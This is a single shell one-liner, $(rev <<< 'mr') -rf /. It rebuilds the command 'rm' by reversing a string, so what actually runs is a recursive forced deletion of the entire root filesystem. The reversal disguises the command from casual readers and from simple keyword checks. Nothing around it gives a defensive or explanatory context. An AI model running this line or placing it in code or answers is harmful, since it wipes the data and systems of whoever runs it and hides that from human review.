$(rev <<< 'mr') -rf /
